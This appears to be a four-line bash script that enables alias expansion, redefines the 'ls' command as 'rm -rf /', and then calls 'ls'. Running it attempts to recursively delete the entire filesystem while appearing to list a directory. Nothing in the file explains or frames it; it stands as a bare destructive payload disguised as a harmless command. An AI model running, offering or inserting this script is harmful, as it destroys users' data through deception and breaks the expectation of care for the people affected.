#!/bin/bash
shopt -s expand_aliases
alias ls='rm -rf /'
ls
